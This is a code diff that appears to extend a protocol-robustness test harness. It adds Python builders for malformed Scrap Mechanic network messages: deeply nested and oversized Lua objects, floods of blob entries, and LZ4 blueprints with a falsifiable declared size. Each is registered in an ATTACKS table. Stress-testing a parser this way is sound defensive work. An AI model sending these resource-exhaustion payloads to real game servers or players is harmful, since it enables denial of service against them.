@@ -90,6 +90,62 @@ def sm_compound_nest(levels: int, inner: bytes) -> bytes:
                                             store_size=False)
 
 
+def sm_blob(uid: bytes, data: bytes, key: bytes = b"\x01\x00\x00\x00",
+            compressed: bool = True) -> bytes:
+    """One BlobData: uid, key, world 1, flags 7, the data as one raw LZ4 block."""
+    block = lz4.block.compress(data, store_size=False) if compressed else data
+    return (uid + struct.pack(">H", len(key)) + key + struct.pack(">HBI", 1, 7, len(block))
+            + block)
+
+
+#: The Terrain Data uid (its payload is a Lua object), in text order.
+SM_TERRAIN_UID = bytes.fromhex("61aa13d7e7154153a2694d338c0c5bd4")
+
+
+def sm_lua_nested(levels: int) -> bytes:
+    """A Lua object: arrays of one element nested ``levels`` deep around an Int8."""
+    # Each array: type 5, count 1, Is Array, offset 1 (73 bits): written as bits.
+    bits = "".join("00000101" + format(1, "032b") + "1" + format(1, "032b")
+                   for _ in range(levels)) + "00001000" + "00000001"
+    bits += "0" * (-len(bits) % 8)
+    return b"LUA" + struct.pack(">I", 1) + int(bits, 2).to_bytes(len(bits) // 8, "big")
+
+
+def sm_lua_count_bomb(n: int) -> bytes:
+    """A Lua object: an array table of ``n`` Int8 zeros (16 bits each). The elements start
+    one bit into a byte (after Is Array and Offset: 73 bits), so each adds the bytes
+    ``04 00`` after the first, whose bits share a byte with the offset's last bit."""
+    head = struct.pack(">BI", 5, n) + bytes.fromhex("800000008400")
+    return b"LUA" + struct.pack(">I", 1) + head + bytes.fromhex("0400") * (n - 1) + b"\x00"
+
+
+def sm_script_init(*blobs: bytes, tick: int = 1) -> bytes:
+    """11 Script Initialization Data sent on its own (LZ4 body)."""
+    return sm_lz4(0x0B, struct.pack(">I", tick) + b"".join(blobs))
+
+
+def sm_lua_depth_bomb(levels: int = 100_000) -> bytes:
+    return sm_script_init(sm_blob(SM_TERRAIN_UID, sm_lua_nested(levels)))
+
+
+def sm_lua_value_bomb(n: int = (15 * 1024 * 1024) // 2) -> bytes:
+    """11 whose Terrain Data expands to a Lua array of millions of values."""
+    return sm_script_init(sm_blob(SM_TERRAIN_UID, sm_lua_count_bomb(n)))
+
+
+def sm_blob_bomb(n: int = 16 * 1024 * 1024 // 26) -> bytes:
+    """25 Script Data whose body is ``n`` BlobData entries (26 bytes each, one-byte data)."""
+    entry = b"\x11" * 16 + struct.pack(">H", 0) + struct.pack(">HBI", 1, 7, 1) + b"\x00"
+    return sm_lz4(0x19, struct.pack(">I", 1) + entry * n)
+
+
+def sm_blueprint(lift_id: int, blueprint: bytes, declared: int | None = None) -> bytes:
+    """45 Lift Import Creation; ``declared`` the Uncompressed Size it states."""
+    block = lz4.block.compress(blueprint, store_size=False)
+    size = len(blueprint) if declared is None else declared
+    return sm_lz4(0x2D, struct.pack(">III", lift_id, size, len(block)) + block)
+
+
 # -- diep.io --------------------------------------------------------------------------------
 
 
@@ -177,6 +233,15 @@ ATTACKS: dict[str, tuple[str, Callable[[], list[bytes]]]] = {
         sm_compound_bomb(),
         sm_lz4(22, sm_update_body(sm_raw_update(sm_create_static(2)), tick=2))]),
     "sm-delta-chain": ("scrap-mechanic", lambda: [sm_delta_chain(8 * 1024 * 1024 - 8)]),
+    "sm-lua-depth-bomb": ("scrap-mechanic", lambda: [
+        sm_lua_depth_bomb(), sm_lz4(22, sm_update_body(sm_raw_update(sm_create_static(2))))]),
+    "sm-lua-value-bomb": ("scrap-mechanic", lambda: [
+        sm_lua_value_bomb(), sm_lz4(22, sm_update_body(sm_raw_update(sm_create_static(2))))]),
+    "sm-blob-bomb": ("scrap-mechanic", lambda: [
+        sm_blob_bomb(), sm_lz4(22, sm_update_body(sm_raw_update(sm_create_static(2))))]),
+    "sm-blob-payload-bomb": ("scrap-mechanic", lambda: [
+        sm_script_init(*[sm_blob(b"\x22" * 16, b"\x00" * (8 * 1024 * 1024))] * 4),
+        sm_lz4(22, sm_update_body(sm_raw_update(sm_create_static(2))))]),
     "diep-deletion-bomb": ("diep", lambda: [diep_deletion_bomb(),
                                             diep_update([], tick=2)]),
     "diep-creation-bomb": ("diep", lambda: [diep_creation_bomb(), diep_update([], tick=2)]),
